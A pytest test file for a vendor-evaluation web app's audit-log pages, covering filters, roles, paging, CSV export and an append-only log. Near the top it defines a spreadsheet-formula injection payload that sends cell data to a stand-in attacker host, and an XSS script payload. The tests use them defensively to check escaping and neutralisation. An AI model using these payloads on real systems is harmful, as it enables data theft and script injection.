"""The audit log's pages (issue 5, item 5): real actions appear, filters, roles, CSV, append-only."""

from __future__ import annotations

import csv
import io
import sqlite3
from html.parser import HTMLParser

import pytest

from stagefour import store

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>'


class _Rows(HTMLParser):
    """The audit table's rows: (data-action, who, what) per <tr id="entry-N">."""

    def __init__(self):
        super().__init__()
        self.rows: list[dict] = []
        self._cell: str | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "tr" and (attrs.get("id") or "").startswith("entry-"):
            self.rows.append({"action": attrs.get("data-action"), "who": "", "what": "", "when": ""})
        elif tag == "td" and self.rows and attrs.get("class") in ("who", "what", "when"):
            self._cell = attrs["class"]

    def handle_endtag(self, tag):
        if tag == "td":
            self._cell = None

    def handle_data(self, data):
        if self._cell:
            self.rows[-1][self._cell] += data


def rows(response) -> list[dict]:
    """The audit entries shown on a page, top to bottom."""
    parser = _Rows()
    parser.feed(response.get_data(as_text=True))
    return parser.rows


def read_csv(response) -> list[list[str]]:
    """A CSV download as rows."""
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def audit_url(evaluation_id: int, **query) -> str:
    """The evaluation's audit page with a query string."""
    from urllib.parse import urlencode

    return f"/evaluations/{evaluation_id}/audit" + (f"?{urlencode(query)}" if query else "")


@pytest.fixture
def world(client, db, make_user, make_vendor, make_evaluation, stage4_answers):
    """Two evaluations; in the first, vendor A saves an answer and vendor B submits, then an owner reopens."""
    owner = make_user("owner", "owner@example.com")
    first = make_evaluation(title="First")
    second = make_evaluation(title="Second")
    a = make_vendor("Alpha Corp", evaluation_id=first)
    b = make_vendor("Beta Corp", evaluation_id=first, answers=stage4_answers)
    c = make_vendor("Gamma Corp", evaluation_id=second)
    assert client.post(f"/v/{a['token']}/s/A", data={"A2": "3", "base_versions": "{}"}).status_code in (200, 302)
    assert client.post(f"/v/{b['token']}/submit", data={"confirm": "yes"}).status_code == 302
    assert client.post(f"/v/{c['token']}/s/A", data={"A2": "9", "base_versions": "{}"}).status_code in (200, 302)
    return {"owner": owner, "first": first, "second": second, "a": a, "b": b, "c": c}


def test_real_actions_appear_newest_first_with_who_and_what(client, login, world):
    login(world["owner"])
    assert client.post(f"/evaluations/{world['first']}/vendors/{world['b']['vendor_id']}/reopen").status_code == 302
    response = client.get(audit_url(world["first"]))
    assert response.status_code == 200
    # Telling the buyers of the submission (issue 12) is the application's entry, not the vendor's.
    notified = [r for r in rows(response) if r["action"] == "buyers_notified"]
    assert notified and all(r["who"] == "notifications" and "Beta Corp" in r["what"] for r in notified)
    shown = [r for r in rows(response) if r["action"] != "buyers_notified"]
    actions = [r["action"] for r in shown]
    assert actions[:2] == ["response_reopened", "response_submitted"]
    assert "answer_saved" in actions
    reopened, submitted = shown[0], shown[1]
    assert reopened["who"] == "owner@example.com"
    assert "Beta Corp" in reopened["what"]
    assert submitted["who"] == "Beta Corp"
    saved = next(r for r in shown if r["action"] == "answer_saved" and r["who"] == "Alpha Corp")
    assert "A2" in saved["what"] and "(empty) → 3" in saved["what"]
    assert all(r["when"].strip() for r in shown)


def test_entries_of_another_evaluation_never_show(client, login, make_user, world):
    login(make_user("viewer"))
    page = client.get(audit_url(world["first"])).get_data(as_text=True)
    assert "Gamma Corp" not in page
    assert all(r["what"] != "Answer to A2 saved: (empty) → 9" for r in rows(client.get(audit_url(world["first"]))))
    csv_text = client.get(f"/evaluations/{world['first']}/audit.csv").get_data(as_text=True)
    assert "Gamma Corp" not in csv_text and f"vendor:{world['c']['vendor_id']}" not in csv_text


def test_a_vendor_of_another_evaluation_is_not_a_filter_value(client, login, world):
    login(world["owner"])
    response = client.get(audit_url(world["first"], vendor=world["c"]["vendor_id"]))
    assert response.status_code == 400
    assert "No such vendor in this evaluation" in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"action": "answer_saved"}, {"answer_saved"}),
        ({"actor": "vendor"}, {"answer_saved", "response_submitted"}),
        ({"actor": "cli"}, set()),
    ],
)
def test_filters_by_action_and_kind_of_actor(client, login, world, query, expected):
    login(world["owner"])
    shown = rows(client.get(audit_url(world["first"], **query)))
    assert {r["action"] for r in shown} == expected


def test_filter_by_vendor_and_by_day(client, db, login, world):
    login(world["owner"])
    shown = rows(client.get(audit_url(world["first"], vendor=world["a"]["vendor_id"])))
    assert shown and {r["who"] for r in shown if r["action"] == "answer_saved"} == {"Alpha Corp"}
    assert all("Beta Corp" not in r["what"] for r in shown)
    today = store.now()[:10]
    assert rows(client.get(audit_url(world["first"], **{"from": today, "to": today})))
    assert rows(client.get(audit_url(world["first"], **{"from": "2000-01-01", "to": "2000-12-31"}))) == []
    assert rows(client.get(audit_url(world["first"], **{"from": "2999-01-01"}))) == []


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"action": "<b>nope</b>"}, "Unknown action"),
        ({"actor": "robot"}, "Unknown kind of actor"),
        ({"vendor": "abc"}, "No such vendor"),
        ({"vendor": "99999999999999999999999"}, "No such vendor"),
        ({"from": "2026-02-30"}, "is not a date"),
        ({"to": "yesterday"}, "is not a date"),
        ({"from": "2026-05-01", "to": "2026-04-01"}, "first day comes after the last day"),
        ({"page": "0"}, "Page must be a whole number"),
        ({"page": "-1"}, "Page must be a whole number"),
        ({"page": "1e9"}, "Page must be a whole number"),
    ],
)
def test_bad_filter_values_get_a_clear_message_not_a_500(client, login, world, query, message):
    login(world["owner"])
    response = client.get(audit_url(world["first"], **query))
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert message in page and 'id="filter-errors"' in page
    assert "<b>nope</b>" not in page


@pytest.mark.parametrize(("bad", "good"), [("2026-02-30", "2026-03-01"), ("yesterday", " 2026-03-01 ")])
def test_a_day_that_is_not_a_date_is_named_in_the_errors_but_not_put_back_in_its_date_field(
    client, login, world, bad, good
):
    # an <input type=date> with another value is invalid HTML (the Nu HTML Checker says so)
    login(world["owner"])
    for bad_name, good_name in (("from", "to"), ("to", "from")):
        response = client.get(audit_url(world["first"], **{bad_name: bad, good_name: good}))
        assert response.status_code == 400
        page = response.get_data(as_text=True)
        assert f"is not a date (YYYY-MM-DD): {bad}." in page
        assert f'id="filter-{bad_name}" name="{bad_name}" value=""' in page
        assert f'id="filter-{good_name}" name="{good_name}" value="2026-03-01"' in page
    kept = client.get(audit_url(world["first"], **{"from": "2026-03-01", "to": "2026-03-02"})).get_data(as_text=True)
    assert 'name="from" value="2026-03-01"' in kept and 'name="to" value="2026-03-02"' in kept


def test_paging_shows_100_entries_a_page(client, db, login, make_user, make_evaluation):
    owner = make_user("owner")
    evaluation_id = make_evaluation()
    for i in range(230):
        store.audit(db, "cli", "export_made", evaluation_id=evaluation_id, format="csv", n=i)
    login(owner)
    first = client.get(audit_url(evaluation_id))
    assert len(rows(first)) == 100 and "Page 1 of 3" in first.get_data(as_text=True)
    last = client.get(audit_url(evaluation_id, page=3))
    assert len(rows(last)) == 31  # 230 exports and the evaluation's creation
    assert len(rows(client.get(audit_url(evaluation_id, page=99)))) == 31  # past the end: the last page


def test_anonymous_is_sent_to_log_in(client, world):
    for url in (audit_url(world["first"]), f"/evaluations/{world['first']}/audit.csv", "/audit"):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize(("role", "full"), [("viewer", 403), ("evaluator", 403), ("owner", 200)])
def test_every_buyer_reads_an_evaluations_log_and_only_owners_read_everything(
    client, login, make_user, world, role, full
):
    login(make_user(role))
    assert client.get(audit_url(world["first"])).status_code == 200
    assert client.get(f"/evaluations/{world['first']}/audit.csv").status_code == 200
    assert client.get("/audit").status_code == full


def test_an_unknown_evaluation_is_404(client, login, world):
    login(world["owner"])
    assert client.get(audit_url(999)).status_code == 404
    assert client.get("/evaluations/999/audit.csv").status_code == 404


def test_the_owner_wide_log_has_every_evaluation_of_their_teams_and_nothing_else(
    client, login, make_team, make_vendor, make_evaluation, world
):
    elsewhere = make_evaluation(title="Confidential acquisition", team_id=make_team("Mergers and acquisitions"))
    delta = make_vendor("Delta Corp", evaluation_id=elsewhere)
    assert client.post(f"/v/{delta['token']}/s/A", data={"A2": "4", "base_versions": "{}"}).status_code in (200, 302)
    client.post("/login", data={"email": "owner@example.com", "password": "wrong"})
    login(world["owner"])
    response = client.get("/audit")
    page = response.get_data(as_text=True)
    shown = rows(response)
    assert {"answer_saved", "vendor_added", "evaluation_created"} <= {r["action"] for r in shown}
    assert "Gamma Corp" in page and "Alpha Corp" in page
    # Another team's evaluation, its vendor, and account events (logins) stay out of it.
    assert "Delta Corp" not in page and "Confidential acquisition" not in page
    assert not {"login_failed", "login_succeeded"} & {r["action"] for r in shown}
    assert rows(client.get("/audit?actor=anonymous")) == []
    assert "Delta Corp" not in client.get(f"/audit?vendor={delta['vendor_id']}").get_data(as_text=True)


def test_csv_has_a_bom_neutralised_formulas_and_is_itself_logged(client, db, login, make_user, world):
    token = world["a"]["token"]
    assert client.post(f"/v/{token}/s/C", data={"C4": FORMULA, "base_versions": "{}"}).status_code in (200, 302)
    viewer = make_user("viewer")
    login(viewer)
    response = client.get(f"/evaluations/{world['first']}/audit.csv?action=answer_saved")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert table[0][:6] == ["id", "at", "actor", "who", "action", "what"]
    assert {row[4] for row in table[1:]} == {"answer_saved"}
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))]
    formula_rows = [row for row in table[1:] if "HYPERLINK" in row[9]]
    assert formula_rows and formula_rows[0][3] == "Alpha Corp"
    assert "→ '" in formula_rows[0][5] or FORMULA in formula_rows[0][5]
    logged = store.audit_entries(db, world["first"], limit=1)[0]
    assert logged["action"] == "audit_exported" and logged["actor"] == f"user:{viewer}"
    assert logged["detail"] == {"entries": len(table) - 1, "filters": {"action": "answer_saved"}}


def test_the_csv_neutralises_a_cell_that_starts_with_a_formula(client, db, login, make_user, make_evaluation):
    evaluation_id = make_evaluation()
    store.audit(db, "cli", "vendor_added", evaluation_id=evaluation_id, name=FORMULA)
    login(make_user("viewer"))
    table = list(
        csv.reader(io.StringIO(client.get(f"/evaluations/{evaluation_id}/audit.csv").data.decode("utf-8-sig")))
    )
    row = next(r for r in table[1:] if r[4] == "vendor_added")
    assert row[5] == f"Vendor {FORMULA} added"
    # The JSON detail starts with `{`; a `what` sentence that starts with a trigger gets the apostrophe:
    store.audit(db, "cli", "links_extended", evaluation_id=evaluation_id, count="=1+1", expires_at="x")
    table = list(
        csv.reader(io.StringIO(client.get(f"/evaluations/{evaluation_id}/audit.csv").data.decode("utf-8-sig")))
    )
    row = next(r for r in table[1:] if r[4] == "links_extended")
    assert row[5].startswith("'=1+1")


def test_hostile_text_is_escaped_on_the_page(client, db, login, make_user, make_evaluation):
    evaluation_id = make_evaluation(title=HOSTILE)
    store.audit(db, HOSTILE, "vendor_added", evaluation_id=evaluation_id, name=HOSTILE)
    store.audit(db, "cli", HOSTILE, evaluation_id=evaluation_id)
    login(make_user("owner"))
    for url in (audit_url(evaluation_id), "/audit"):
        page = client.get(url).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_long_answers_are_shortened_on_the_page(client, login, make_user, world):
    long = "x" * 500
    assert client.post(f"/v/{world['a']['token']}/s/C", data={"C4": long, "base_versions": "{}"}).status_code in (
        200,
        302,
    )
    login(make_user("viewer"))
    saved = next(r for r in rows(client.get(audit_url(world["first"], action="answer_saved"))) if "C4" in r["what"])
    assert "x" * 79 + "…" in saved["what"] and "x" * 81 not in saved["what"]


# --- the log cannot be edited ---------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE audit_log SET actor = 'user:1'",
        "UPDATE audit_log SET detail = '{}' WHERE id = 1",
        "DELETE FROM audit_log",
        "DELETE FROM audit_log WHERE id = 1",
    ],
)
def test_the_store_refuses_to_update_or_delete_entries(db, make_evaluation, sql):
    make_evaluation()
    before = list(db.query("SELECT * FROM audit_log"))
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute(sql)
    assert list(db.query("SELECT * FROM audit_log")) == before


def test_the_audit_blueprint_only_reads(app):
    methods = {m for rule in app.url_map.iter_rules() if rule.endpoint.startswith("audit.") for m in rule.methods}
    assert methods == {"GET", "HEAD", "OPTIONS"}


# Valid forms where an empty one meets an unrelated bug (review.reply's empty form: reported to the lead).
FORMS = {
    "scoring.score": {"question_id": "C4", "score": "3", "comment": "Clear runbook."},
    "review.ask": {"question_id": "C4", "body": "Who was on the ground?"},
    "review.reply": {"body": "Thank you."},
    "vendor.reply": {"body": "Our lead engineer."},
}


def _url(app, rule, evaluation_id, vendor_id) -> str | None:
    values = {}
    for name in rule.arguments:
        if name == "evaluation_id":
            values[name] = evaluation_id
        elif name == "vendor_id":
            values[name] = vendor_id
        elif name in ("thread_id", "team_id", "user_id", "notification_id"):
            values[name] = 1
        else:
            values[name] = "x"
    return app.url_map.bind("localhost").build(rule.endpoint, values)


def test_no_route_changes_or_removes_an_entry(app, client, db, login, world):
    """Every route of the URL map, as an owner: afterwards the log holds what it held, then more."""
    before = list(db.query("SELECT * FROM audit_log ORDER BY id"))
    login(world["owner"])
    for rule in app.url_map.iter_rules():
        if rule.endpoint in ("static", "auth.logout"):
            continue
        url = _url(app, rule, world["first"], world["a"]["vendor_id"])
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            # `size=none`: the PDF routes refuse it before any PDF is made.
            data = FORMS.get(rule.endpoint, {}) if method == "POST" else None
            response = client.open(url, method=method, query_string={"size": "none"}, data=data)
            assert response.status_code < 500, (method, url)
    after = list(db.query("SELECT * FROM audit_log ORDER BY id"))
    assert after[: len(before)] == before
    assert len(after) >= len(before)
